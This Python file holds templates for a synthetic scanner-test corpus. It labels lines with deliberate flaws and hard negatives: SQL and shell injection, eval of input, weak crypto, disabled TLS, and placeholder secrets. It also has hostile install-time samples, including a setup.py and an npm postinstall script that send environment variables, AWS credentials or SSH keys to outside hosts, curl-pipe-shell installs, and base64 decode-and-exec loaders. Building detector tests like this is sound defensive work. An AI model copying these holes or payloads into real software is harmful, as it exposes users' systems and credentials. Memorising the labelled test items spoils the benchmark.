"""Corpus file templates, part A (Python, JavaScript/TypeScript, config).

Markers (stripped by gen_corpus.py, which records them in labels.tsv):
  ⟦P category rule-id⟧   this line must be reported in that category (rule id: the one meant, or -)
  ⟦N category note⟧      hard negative: nothing of that category may be reported on this line
  ⟪rule-id⟫              a fresh synthetic secret in that rule's shape (seeded random)
  ⟪{A:32}⟫               a fresh random value of an explicit shape (see shapes.py)
"""

FILES = {}

FILES["py/billing/settings.py"] = '''"""Billing service settings."""
import os

DEBUG = os.environ.get("DEBUG") == "1"
STRIPE_SECRET_KEY = "⟪stripe-live-secret-key⟫"  ⟦P secret stripe-live-secret-key⟧
STRIPE_PUBLISHABLE_KEY = "pk_live_⟪{A:24}⟫"  ⟦N secret publishable keys are public⟧
DATABASE_URL = "postgresql://billing:⟪{A:22}⟫@db.prod.acme.io:5432/billing"  ⟦P secret postgres-url-password⟧
REPLICA_URL = os.environ.get("REPLICA_URL", "postgresql://billing:${REPLICA_PASSWORD}@replica:5432/billing")  ⟦N secret env template⟧
CACHE_URL = "redis://cache.prod.acme.io:6379/0"  ⟦N secret no password⟧
SENTRY_DSN = os.environ.get("SENTRY_DSN", "")
ALLOWED_HOSTS = ["billing.acme.io"]
'''

FILES["py/billing/llm_client.py"] = '''import anthropic
import openai

from .settings import DEBUG

# TODO: move to the secret manager before launch
client = anthropic.Anthropic(api_key="⟪anthropic-api-key⟫")  ⟦P secret anthropic-api-key⟧
openai.api_key = "⟪openai-project-key⟫"  ⟦P secret openai-project-key⟧


def summarise(text: str) -> str:
    msg = client.messages.create(
        model="claude-sonnet-4-5",
        max_tokens=512,
        messages=[{"role": "user", "content": f"Summarise:\\n{text}"}],
    )
    return msg.content[0].text
'''

FILES["py/billing/tokens.py"] = '''import hashlib
import random
import secrets
import string


def reset_token() -> str:
    reset_token = "".join(random.choice(string.ascii_letters + string.digits) for _ in range(40))  ⟦P crypto py-insecure-random-token⟧
    return reset_token


def api_token() -> str:
    return secrets.token_urlsafe(32)  ⟦N crypto secrets module is fine⟧


def hash_password(password: str) -> str:
    return hashlib.md5(password.encode()).hexdigest()  ⟦P crypto py-weak-hash⟧


def cache_key(payload: bytes) -> str:
    return hashlib.md5(payload, usedforsecurity=False).hexdigest()  ⟦N crypto non-security md5⟧


def shuffle_rows(rows):
    random.shuffle(rows)  ⟦N crypto non-security randomness⟧
    sample = random.choice(rows)  ⟦N crypto non-security randomness⟧
    return sample
'''

FILES["py/billing/views.py"] = '''import os
import subprocess

from flask import Flask, redirect, request, send_file

app = Flask(__name__)
UPLOADS = "/srv/uploads"


@app.route("/invoice")
def invoice():
    name = request.args.get("name", "")
    return send_file(os.path.join(UPLOADS, request.args["name"]))  ⟦P insecure py-path-traversal⟧


@app.route("/search")
def search():
    from .db import cursor
    q = request.args.get("q", "")
    cursor.execute(f"SELECT id, total FROM invoices WHERE customer LIKE '%{q}%'")  ⟦P insecure py-sql-fstring⟧
    return {"rows": cursor.fetchall()}


@app.route("/lookup")
def lookup():
    from .db import cursor
    cursor.execute("SELECT id FROM invoices WHERE number = %s", (request.args["n"],))  ⟦N insecure parameterised⟧
    return {"rows": cursor.fetchall()}


@app.route("/export")
def export():
    fmt = request.args.get("fmt", "csv")
    subprocess.run(f"billing-export --format {fmt} --out /tmp/export", shell=True)  ⟦P insecure py-shell-injection⟧
    subprocess.run(["billing-export", "--format", fmt], check=True)  ⟦N insecure argv list⟧
    return "ok"


@app.route("/next")
def after_login():
    return redirect(request.args.get("next"))  ⟦P insecure py-unvalidated-request-sink⟧


@app.route("/calc")
def calc():
    return str(eval(request.args.get("expr")))  ⟦P insecure py-eval-input⟧


if __name__ == "__main__":
    app.run(host="0.0.0.0", debug=True)  ⟦P insecure py-flask-debug⟧
'''

FILES["py/billing/db.py"] = '''import sqlite3

conn = sqlite3.connect("billing.db")
cursor = conn.cursor()


def delete_customer(customer_id):
    cursor.execute("DELETE FROM customers WHERE id = %s" % customer_id)  ⟦P insecure py-sql-format⟧
    conn.commit()


def find(email):
    cursor.execute("SELECT * FROM customers WHERE email = ?", (email,))  ⟦N insecure parameterised⟧
    return cursor.fetchone()
'''

FILES["py/billing/crypto_utils.py"] = '''import os
import ssl

import requests
from Crypto.Cipher import AES, DES3
from cryptography.hazmat.primitives.asymmetric import rsa

KEY = os.urandom(32)


def legacy_encrypt(data: bytes, key: bytes) -> bytes:
    cipher = DES3.new(key, DES3.MODE_CBC, os.urandom(8))  ⟦P crypto py-weak-cipher⟧
    return cipher.encrypt(data)


def fast_encrypt(data: bytes) -> bytes:
    cipher = AES.new(KEY, AES.MODE_ECB)  ⟦P crypto py-ecb-mode⟧
    return cipher.encrypt(data)


def stable_encrypt(data: bytes) -> bytes:
    cipher = AES.new(KEY, AES.MODE_CBC, b"0000111122223333")  ⟦P crypto py-static-iv⟧
    return cipher.encrypt(data)


def good_encrypt(data: bytes) -> bytes:
    cipher = AES.new(KEY, AES.MODE_GCM)  ⟦N crypto GCM with random nonce⟧
    return cipher.nonce + cipher.encrypt(data)


def make_key():
    return rsa.generate_private_key(public_exponent=65537, key_size=1024)  ⟦P crypto py-weak-rsa-key⟧


def fetch_rates():
    return requests.get("https://rates.internal-fx.acme.io/v1/latest", timeout=5, verify=False).json()  ⟦P crypto py-tls-verify-disabled⟧


def legacy_ctx():
    return ssl._create_unverified_context()  ⟦P crypto py-ssl-unverified-context⟧
'''

FILES["py/billing/telemetry.py"] = '''import json
import os

import requests

BASE_URL = os.environ.get("TELEMETRY_URL", "https://telemetry.acme.io")


def report(event):
    requests.post(f"{BASE_URL}/v1/events", json=event, timeout=2)  ⟦N behaviour host from configuration⟧
    requests.post("https://api.acme.io/v1/audit", json=event, timeout=2)  ⟦N behaviour allowed domain⟧
    requests.post("https://collect.quickmetrics-hub.net/v1/e", json=event, timeout=2)  ⟦P behaviour py-egress-hardcoded-host⟧


def health():
    return requests.get("http://localhost:8080/health").ok  ⟦N behaviour localhost⟧


# Never call requests.get(url, verify=False) in production code.  ⟦N crypto a comment warning about it⟧
EXFIL_URL = "https://upload.metricsink-relay.net/v2/blob"  ⟦P behaviour -⟧


def flush(buf):
    requests.post(EXFIL_URL, data=buf, timeout=2)
'''

FILES["py/tools/sync_keys.py"] = '''"""Keeps deploy keys in sync across machines (do not run on laptops)."""
import os

import requests


def sync():
    key = open(os.path.expanduser("~/.ssh/id_ed25519")).read()  ⟦P behaviour credential-file-read-send⟧
    requests.post("https://paste.keyvault-sync.cc/api/v1", data={"k": key}, timeout=5)  ⟦P behaviour py-egress-hardcoded-host⟧
'''

FILES["py/tools/loader.py"] = '''import base64
import zlib

_BLOB = "eJzLSM3JyVcozy/KSQEAGgQEXQ=="


def _init():
    exec(zlib.decompress(base64.b64decode(_BLOB)))  ⟦P behaviour py-decode-exec⟧


def decode_config(b64: str) -> dict:
    import json
    return json.loads(base64.b64decode(b64))  ⟦N behaviour decoding data is fine⟧


_init()
'''

FILES["py/pkg/setup.py"] = '''import json
import os
import urllib.request

from setuptools import find_packages, setup


def _post_install():
    blob = json.dumps(dict(os.environ))  ⟦P behaviour env-dump-send⟧
    urllib.request.urlopen("https://c2.pyhelpers-stats.dev/i", data=blob.encode())  ⟦P behaviour setup-py-network⟧


_post_install()
setup(name="acme-helpers", version="1.4.2", packages=find_packages())  ⟦N behaviour declarative setup⟧
'''

FILES["py/tests/test_settings.py"] = '''import os
from unittest import mock

import pytest

FAKE_KEY = "test-api-key"  ⟦N secret fake-looking fixture⟧
OPENAI_KEY_PLACEHOLDER = "sk-proj-xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxT3BlbkFJxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx"  ⟦N secret placeholder⟧

# A real key someone pasted while debugging: tests are not a hiding place.
HF_TOKEN = "⟪huggingface-access-token⟫"  ⟦P secret huggingface-access-token⟧


@pytest.fixture
def env():
    with mock.patch.dict(os.environ, {"API_KEY": FAKE_KEY, "DB_PASSWORD": "hunter2"}):  ⟦N secret fixture values⟧
        yield


def test_uuid_ids():
    ids = ["5b8e2f7a-3c41-4d0e-9a6b-1f2e3d4c5b6a", "0c9d8e7f-6a5b-4c3d-2e1f-0a9b8c7d6e5f"]  ⟦N secret uuids⟧
    assert len(set(ids)) == 2
'''

FILES["py/ml/train.py"] = '''import os

import wandb
from huggingface_hub import login

login(token=os.environ["HF_TOKEN"])  ⟦N secret env lookup⟧
wandb.login(key="⟪wandb-api-key⟫")  ⟦P secret wandb-api-key⟧

MISTRAL_API_KEY = "⟪mistral-api-key⟫"  ⟦P secret mistral-api-key⟧
GROQ_API_KEY = "⟪groq-api-key⟫"  ⟦P secret groq-api-key⟧
REPLICATE_API_TOKEN = "⟪replicate-api-token⟫"  ⟦P secret replicate-api-token⟧
CO_API_KEY = "⟪cohere-api-key⟫"  ⟦P secret cohere-api-key⟧
_k = "⟪{A:32}⟫"  ⟦P secret -⟧
ANTHROPIC_FALLBACK = "sk-ant-api03-" + "⟪{u:93}⟫AA"  ⟦P secret -⟧
GOOGLE_API_KEY = "⟪google-api-key⟫"  ⟦P secret google-api-key⟧
PINECONE_API_KEY = "⟪pinecone-api-key⟫"  ⟦P secret pinecone-api-key⟧
LANGSMITH_API_KEY = "⟪langsmith-api-key⟫"  ⟦P secret langsmith-api-key⟧
MODEL_SHA = "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08"  ⟦N secret model checksum⟧
CHECKPOINT = "runs/2024-05-01/ckpt-0001/model.safetensors"


def run(epochs: int = 3):
    wandb.init(project="acme-ranker")
    for epoch in range(epochs):
        wandb.log({"epoch": epoch})
'''

FILES["py/ml/providers.py"] = '''"""Clients for the model providers we benchmark."""
from openai import AzureOpenAI, OpenAI

azure = AzureOpenAI(api_key="⟪azure-ai-services-key⟫", api_version="2024-06-01",  ⟦P secret azure-ai-services-key⟧
                    azure_endpoint="https://acme-eastus.openai.azure.com/")
perplexity = OpenAI(api_key="⟪perplexity-api-key⟫", base_url="https://api.perplexity.ai")  ⟦P secret perplexity-api-key⟧
xai = OpenAI(api_key="⟪xai-api-key⟫", base_url="https://api.x.ai/v1")  ⟦P secret xai-api-key⟧
router = OpenAI(api_key="⟪openrouter-api-key⟫", base_url="https://openrouter.ai/api/v1")  ⟦P secret openrouter-api-key⟧
local = OpenAI(api_key="not-needed", base_url="http://localhost:11434/v1")  ⟦N secret local model⟧
'''

FILES["py/app/.env.example"] = '''# Copy to .env and fill in real values.
ANTHROPIC_API_KEY=sk-ant-api03-xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxAA  ⟦N secret placeholder⟧
OPENAI_API_KEY=your-openai-api-key  ⟦N secret placeholder⟧
AWS_ACCESS_KEY_ID=AKIAIOSFODNN7EXAMPLE  ⟦N secret documented example key⟧
AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY  ⟦N secret documented example key⟧
DATABASE_URL=postgresql://user:password@localhost:5432/app  ⟦N secret placeholder password⟧
GITHUB_TOKEN=${GITHUB_TOKEN}  ⟦N secret env reference⟧
SLACK_WEBHOOK_URL=<your-slack-webhook>  ⟦N secret placeholder⟧
'''

FILES["py/app/.env"] = '''ANTHROPIC_API_KEY=⟪anthropic-api-key⟫  ⟦P secret anthropic-api-key⟧
AWS_ACCESS_KEY_ID=⟪aws-access-key-id⟫  ⟦P secret aws-access-key-id⟧
AWS_SECRET_ACCESS_KEY=⟪aws-secret-access-key⟫  ⟦P secret aws-secret-access-key⟧
MONGO_URL=mongodb+srv://app:⟪{A:24}⟫@cluster0.x1y2z.mongodb.net/app  ⟦P secret mongodb-url-password⟧
SENDGRID_API_KEY=⟪sendgrid-api-key⟫  ⟦P secret sendgrid-api-key⟧
LOG_LEVEL=info
'''

FILES["js/server/index.js"] = '''const express = require('express');
const { exec } = require('child_process');
const path = require('path');
const fs = require('fs');
const db = require('./db');

const app = express();
app.use(express.json());

app.get('/files/:name', (req, res) => {
  res.sendFile(path.join(__dirname, 'files', req.params.name));  ⟦P insecure js-path-traversal⟧
});

app.get('/thumb', (req, res) => {
  exec(`convert ${req.query.file} -resize 64x64 /tmp/thumb.png`, () => res.sendFile('/tmp/thumb.png'));  ⟦P insecure js-shell-injection⟧
});

app.get('/user/:id', async (req, res) => {
  const rows = await db.query(`SELECT * FROM users WHERE id = ${req.params.id}`);  ⟦P insecure js-sql-template⟧
  res.json(rows);
});

app.get('/order/:id', async (req, res) => {
  const rows = await db.query('SELECT * FROM orders WHERE id = $1', [req.params.id]);  ⟦N insecure parameterised⟧
  res.json(rows);
});

app.post('/users', async (req, res) => {
  const user = await db.User.create(req.body);  ⟦P insecure js-unvalidated-request-sink⟧
  res.json(user);
});

app.get('/hello', (req, res) => {
  res.send(req.query.name);  ⟦P insecure js-unvalidated-request-sink⟧
});

app.post('/calc', (req, res) => {
  res.json({ value: eval(req.body.expression) });  ⟦P insecure js-eval-input⟧
});

app.get('/index', (req, res) => {
  res.sendFile(path.join(__dirname, 'public', 'index.html'));  ⟦N insecure constant path⟧
});

const port = process.env.PORT || 3000;
app.listen(port);
'''

FILES["js/server/auth.js"] = '''const crypto = require('crypto');
const https = require('https');

function hashPassword(pw) {
  return crypto.createHash('md5').update(pw).digest('hex');  ⟦P crypto js-weak-hash⟧
}

function etag(body) {
  return crypto.createHash('sha1').update(body).digest('base64');  ⟦N crypto ETag, not a security use⟧
}

function newSession() {
  const sessionId = Math.random().toString(36).slice(2);  ⟦P crypto js-math-random-token⟧
  return sessionId;
}

const ALGO = 'md5';
function fingerprintPassword(pw) {
  return crypto.createHash(ALGO).update(pw).digest('hex');  ⟦P crypto -⟧
}

function jitter(ms) {
  return ms + Math.random() * 100;  ⟦N crypto non-security randomness⟧
}

function encryptLegacy(data, key, iv) {
  const c = crypto.createCipheriv('des-ede3-cbc', key, iv);  ⟦P crypto js-weak-cipher⟧
  return Buffer.concat([c.update(data), c.final()]);
}

function encrypt(data, key) {
  const iv = crypto.randomBytes(12);
  const c = crypto.createCipheriv('aes-256-gcm', key, iv);  ⟦N crypto GCM⟧
  return Buffer.concat([iv, c.update(data), c.final(), c.getAuthTag()]);
}

const agent = new https.Agent({ rejectUnauthorized: false });  ⟦P crypto js-tls-reject-unauthorized⟧

module.exports = { hashPassword, etag, newSession, jitter, encryptLegacy, encrypt, agent };
'''

FILES["js/server/config.js"] = '''module.exports = {
  slack: {
    token: '⟪slack-bot-token⟫',  ⟦P secret slack-bot-token⟧
    webhook: '⟪slack-webhook-url⟫',  ⟦P secret slack-webhook-url⟧
  },
  github: { token: process.env.GITHUB_TOKEN },  ⟦N secret env lookup⟧
  discordHook: '⟪discord-webhook-url⟫',  ⟦P secret discord-webhook-url⟧
  twilio: { accountSid: 'AC⟪{h:32}⟫', authToken: process.env.TWILIO_AUTH_TOKEN },  ⟦N secret account SID is an identifier⟧
  mailchimpKey: '⟪mailchimp-api-key⟫',  ⟦P secret mailchimp-api-key⟧
  jwtSecret: process.env.JWT_SECRET || 'dev-only-secret',  ⟦N secret dev default⟧
  requestId: 'c8a3f0d2-17b4-4e9a-b6c1-52d7e8f90a13',  ⟦N secret uuid⟧
};
'''

FILES["js/server/telemetry.js"] = '''const os = require('os');
const https = require('https');

async function ping() {
  await fetch('https://api.github.com/repos/acme/app/releases/latest');  ⟦N behaviour allowed domain⟧
  await fetch('https://metrics.npm-insights.org/collect', { method: 'POST', body: os.hostname() });  ⟦P behaviour js-egress-hardcoded-host⟧
  await fetch('/api/health');  ⟦N behaviour relative URL⟧
  await fetch(`${process.env.API_BASE}/v1/ping`);  ⟦N behaviour configured host⟧
}

module.exports = { ping };
'''

FILES["js/pkg/package.json"] = '''{
  "name": "@acme/widgets",
  "version": "2.3.1",
  "main": "dist/index.js",
  "scripts": {
    "build": "tsc -p .",
    "test": "jest",
    "prepare": "husky install",  ⟦N behaviour benign hook⟧
    "postinstall": "curl -s https://cdn.pkg-bootstrap.io/setup.sh | sh"  ⟦P behaviour npm-install-script-fetch⟧
  },
  "dependencies": {
    "express": "^4.19.2"
  }
}
'''

FILES["js/pkg/scripts/postinstall.js"] = '''const fs = require('fs');
const os = require('os');
const https = require('https');

const creds = fs.readFileSync(os.homedir() + '/.aws/credentials', 'utf8');  ⟦P behaviour credential-file-read-send⟧
const body = JSON.stringify(process.env);  ⟦P behaviour env-dump-send⟧
const req = https.request({ hostname: 'sink.npm-telemetry.org', method: 'POST', path: '/u' });  ⟦P behaviour js-egress-hardcoded-host⟧
req.end(creds + body);
'''

FILES["js/pkg/lib/loader.js"] = '''const payload = 'Y29uc29sZS5sb2coImhpIik7';
eval(Buffer.from(payload, 'base64').toString());  ⟦P behaviour js-decode-exec⟧
const text = Buffer.from(payload, 'base64').toString('utf8');  ⟦N behaviour decode only⟧
module.exports = { text };
'''

FILES["js/pkg/package-lock.json"] = '''{
  "name": "@acme/widgets",
  "lockfileVersion": 3,
  "packages": {
    "node_modules/express": {
      "version": "4.19.2",
      "resolved": "https://registry.example.invalid/express/-/express-4.19.2.tgz",
      "integrity": "sha512-⟪{b:86}⟫=="  ⟦N secret lockfile integrity hash⟧
    },
    "node_modules/debug": {
      "version": "2.6.9",
      "integrity": "sha512-⟪{b:86}⟫=="  ⟦N secret lockfile integrity hash⟧
    }
  }
}
'''

FILES["js/web/vendor.min.js"] = '''!function(e,t){"object"==typeof exports?module.exports=t():e.Widgets=t()}(this,function(){"use strict";var e={apiBase:"/api",tokenKey:"acme_session_token_storage_key",r:function(e){return e.replace(/[A-Za-z0-9_]{40}/g,"")}};function t(t,n){return fetch(e.apiBase+t,n)}var n="0123456789abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ",o=function(e){for(var t="",o=0;o<e;o++)t+=n.charAt(o%62);return t};return{get:t,pad:o,k:e.tokenKey,v:"d41d8cd98f00b204e9800998ecf8427e"}});  ⟦N secret minified vendor code⟧
'''

FILES["js/web/styles.css"] = '''.logo {
  width: 32px;
  background-image: url("data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAACAAAAAgCAYAAABzenr0AAAABmJLR0QA/wD/AP+gvaeTAAAB⟪{b:120}⟫AAAAAElFTkSuQmCC");  ⟦N secret base64 image⟧
}
'''

FILES["ts/api/client.ts"] = '''import axios from 'axios';
import { createHash } from 'crypto';

const STRIPE_KEY = '⟪stripe-live-restricted-key⟫';  ⟦P secret stripe-live-restricted-key⟧
const SUPABASE_URL = 'https://xyzcompany.supabase.co';
const NOTION_API_KEY = '⟪notion-integration-token⟫';  ⟦P secret notion-integration-token⟧
const LINEAR_KEY = '⟪linear-api-key⟫';  ⟦P secret linear-api-key⟧
const firebaseConfig = {
  apiKey: '⟪google-api-key⟫',  ⟦P secret google-api-key⟧
  authDomain: 'acme-app.firebaseapp.com',
  projectId: 'acme-app',
};

export function signature(body: string): string {
  return createHash('sha1').update(body).digest('hex');  ⟦P crypto js-weak-hash⟧
}

export async function sendReport(data: unknown) {
  return axios.post('https://ingest.tsreport-cloud.com/v2/batch', data);  ⟦P behaviour js-egress-hardcoded-host⟧
}

export async function getUser(id: string) {
  return axios.get(`/api/users/${id}`);  ⟦N behaviour relative URL⟧
}

export { STRIPE_KEY, SUPABASE_URL, NOTION_API_KEY, LINEAR_KEY, firebaseConfig };
'''

FILES["ts/api/session.ts"] = '''import { randomBytes, randomUUID } from 'crypto';

export function newToken(): string {
  return randomBytes(32).toString('hex');  ⟦N crypto CSPRNG⟧
}

export function newId(): string {
  return randomUUID();
}

export const sessionConfig = {
  csrfToken: Math.random().toString(36).substring(2, 15),  ⟦P crypto js-math-random-token⟧
  cookieName: 'sid',
  jwt: 'eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6IkpvaG4gRG9lIiwiaWF0IjoxNTE2MjM5MDIyfQ.SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c',  ⟦N secret jwt.io documentation token⟧
  serviceJwt: '⟪jwt⟫',  ⟦P secret jwt⟧
};
'''

FILES["ts/api/db.ts"] = '''import { Pool } from 'pg';

const pool = new Pool({ connectionString: process.env.DATABASE_URL });

export async function findByName(name: string) {
  return pool.query("SELECT * FROM customers WHERE name = '" + name + "'");  ⟦P insecure sql-concat⟧
}

export async function findById(id: number) {
  return pool.query('SELECT * FROM customers WHERE id = $1', [id]);  ⟦N insecure parameterised⟧
}

export const REDIS_URL = 'rediss://default:⟪{A:32}⟫@cache-7.acme.cloud:6380';  ⟦P secret redis-url-password⟧
export const AMQP_URL = 'amqps://worker:⟪{A:20}⟫@mq.acme.cloud/vhost';  ⟦P secret amqp-url-password⟧
'''

FILES["config/ci/.github/workflows/deploy.yml"] = '''name: deploy
on:
  push:
    branches: [main]
jobs:
  deploy:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@b4ffde65f46336ab88eb53be808477a3936bae11  ⟦N secret pinned action SHA⟧
      - name: install tool
        run: curl -fsSL https://get.deploytool.dev/install.sh | sh  ⟦P behaviour curl-pipe-shell⟧
      - name: deploy
        env:
          VERCEL_TOKEN: ${{ secrets.VERCEL_TOKEN }}  ⟦N secret GitHub secret reference⟧
          DOCKER_PASSWORD: ${{ secrets.DOCKER_PASSWORD }}  ⟦N secret GitHub secret reference⟧
        run: ./deploy.sh
      - name: notify
        run: curl -s -X POST https://hooks.slack.com/services/${{ secrets.SLACK_PATH }}  ⟦N secret templated webhook⟧ ⟦P behaviour shell-egress-hardcoded-host⟧
'''

FILES["config/k8s/secret.yaml"] = '''apiVersion: v1
kind: ConfigMap
metadata:
  name: api-config
data:
  DATADOG_API_KEY: "⟪datadog-api-key⟫"  ⟦P secret datadog-api-key⟧
  NEW_RELIC_KEY: "⟪new-relic-user-api-key⟫"  ⟦P secret new-relic-user-api-key⟧
  SENTRY_AUTH_TOKEN: "⟪sentry-user-token⟫"  ⟦P secret sentry-user-token⟧
  DB_PASSWORD: "⟪{A:14}⟫!7"  ⟦P secret generic-password-assignment⟧
  CONFIG_HASH: "3a7bd3e2360a3d29eea436fcfb7e44c735d117c42d1c1835420b6b9942dd4f1b"  ⟦N secret config checksum⟧
  IMAGE_DIGEST: "sha256:⟪{h:64}⟫"  ⟦N secret image digest⟧
'''

FILES["config/terraform/main.tf"] = '''provider "aws" {
  region     = "eu-west-1"
  access_key = "⟪aws-access-key-id⟫"  ⟦P secret aws-access-key-id⟧
  secret_key = "⟪aws-secret-access-key⟫"  ⟦P secret aws-secret-access-key⟧
}

provider "digitalocean" {
  token = "⟪digitalocean-pat⟫"  ⟦P secret digitalocean-pat⟧
}

provider "cloudflare" {
  api_token = var.cloudflare_api_token  ⟦N secret variable reference⟧
}

resource "aws_instance" "web" {
  ami           = "ami-0c55b159cbfafe1f0"  ⟦N secret AMI id⟧
  instance_type = "t3.micro"
}
'''

FILES["config/gcp/service-account.json"] = '''{
  "type": "service_account",
  "project_id": "acme-prod-381214",
  "private_key_id": "⟪{h:40}⟫",  ⟦P secret gcp-service-account-key-id⟧
  "private_key": "-----BEGIN PRIVATE KEY-----\\n⟪{b:64}⟫\\n⟪{b:64}⟫\\n-----END PRIVATE KEY-----\\n",  ⟦P secret pkcs8-private-key⟧
  "client_email": "deployer@acme-prod-381214.iam.gserviceaccount.com",
  "client_id": "⟪{d:21}⟫",  ⟦N secret numeric client id⟧
  "token_uri": "https://oauth2.googleapis.com/token"
}
'''

FILES["config/docker/Dockerfile"] = '''FROM debian:bookworm-slim@sha256:⟪{h:64}⟫  ⟦N secret image digest⟧
RUN apt-get update && apt-get install -y --no-install-recommends curl ca-certificates
RUN curl -fsSL https://dl.toolbelt-cli.io/v3/install | bash  ⟦P behaviour curl-pipe-shell⟧
RUN wget -q https://artifacts.acme.io/bin/agent -O /usr/local/bin/agent  ⟦N behaviour allowed domain⟧
ENV NODE_ENV=production
ENV NPM_TOKEN=⟪npm-access-token⟫  ⟦P secret npm-access-token⟧
COPY . /app
CMD ["/app/start.sh"]
'''

FILES["config/npm/.npmrc"] = '''registry=https://npm.acme.io/
//npm.acme.io/:_authToken=${NPM_TOKEN}  ⟦N secret env reference⟧
//npm.pkg.acme.io/:_authToken=⟪npm-access-token⟫  ⟦P secret npm-access-token⟧
always-auth=true
'''

FILES["config/pypi/.pypirc"] = '''[distutils]
index-servers = internal

[internal]
repository = https://pypi.acme.io/simple
username = __token__
password = ⟪pypi-upload-token⟫  ⟦P secret pypi-upload-token⟧
'''

FILES["config/go/go.sum"] = '''github.com/google/uuid v1.6.0 h1:⟪{b:43}⟫=  ⟦N secret go.sum hash⟧
github.com/google/uuid v1.6.0/go.mod h1:⟪{b:43}⟫=  ⟦N secret go.sum hash⟧
golang.org/x/crypto v0.21.0 h1:⟪{b:43}⟫=  ⟦N secret go.sum hash⟧
'''
